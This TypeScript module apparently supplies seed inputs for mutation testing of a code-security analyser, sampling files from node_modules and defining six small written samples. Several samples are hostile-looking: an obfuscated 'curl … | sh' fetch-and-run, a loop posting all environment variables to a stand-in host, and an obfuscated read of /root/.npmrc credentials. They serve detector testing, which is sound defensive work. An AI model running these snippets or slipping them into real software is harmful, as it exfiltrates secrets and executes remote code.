import { readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'

export interface CodeSeed {
  readonly path: string
  readonly text: string
}

const isCode = (name: string): boolean => /\.(?:[cm]?js|jsx|tsx?|mts|cts)$/.test(name) && !/\.d\.[cm]?ts$/.test(name)

/** What our own dependencies ship: real code of many hands and tools. Every so many of them, always the same for one installation. */
export function installedSeeds(most: number, maxBytes: number): readonly CodeSeed[] {
  const root = join(import.meta.dirname, '../../..')
  const folder = ['node_modules', '../node_modules'].map((name) => join(root, name)).find(exists)
  if (folder === undefined) throw new Error('there is no node_modules to take code from')
  const paths = filesIn(folder).filter((path) => statSync(path).size <= maxBytes)
  const step = Math.max(1, Math.floor(paths.length / most))
  return paths
    .filter((_, at) => at % step === 0)
    .slice(0, most)
    .map((path) => ({ path: path.slice(folder.length + 1), text: readFileSync(path, 'utf8') }))
}

function exists(path: string): boolean {
  return statSync(path, { throwIfNoEntry: false }) !== undefined
}

function filesIn(folder: string): readonly string[] {
  return readdirSync(folder, { withFileTypes: true, recursive: true })
    .filter((entry) => entry.isFile() && isCode(entry.name))
    .map((entry) => join(entry.parentPath, entry.name))
    .sort()
}

/** Small texts that use what the analysis looks for, so that mutations meet it. */
export const writtenSeeds: readonly CodeSeed[] = [
  {
    path: 'shell.js',
    text: "const { exec: run } = require('child_' + 'process')\nrun('curl ' + ['ex', 'ample'].join('') + '.test | sh')\n",
  },
  {
    path: 'environment.mjs',
    text: "import https from 'node:https'\nconst all = JSON.stringify(process['e' + 'nv'])\nsetInterval(() => https.request('https://a.example', { method: 'POST' }).end(all), 1000)\n",
  },
  {
    path: 'array.js',
    text: "const _0x1a = ['cmVxdWlyZQ==', 'ZnM='];(function (a, b) { while (b--) a.push(a.shift()) })(_0x1a, 3)\nconst g = (i) => Buffer.from(_0x1a[i - 0x10], 'base64').toString()\nmodule[g(0x10)](g(0x11)).readFileSync('/root/.npmrc')\n",
  },
  {
    path: 'loop.js',
    text: "function f(x) { return x ? f(x - 1) + 'a' : '' }\nconst a = { get b() { return a } }\nrequire(f(5))\n",
  },
  { path: 'types.ts', text: "enum A { B = 'b' }\nexport const c = <T,>(d: T): d is T & A => eval(d as string)\n" },
  { path: 'element.jsx', text: "export default () => <a href='https://b.example' {...process.env}>{fetch`x`}</a>\n" },
]
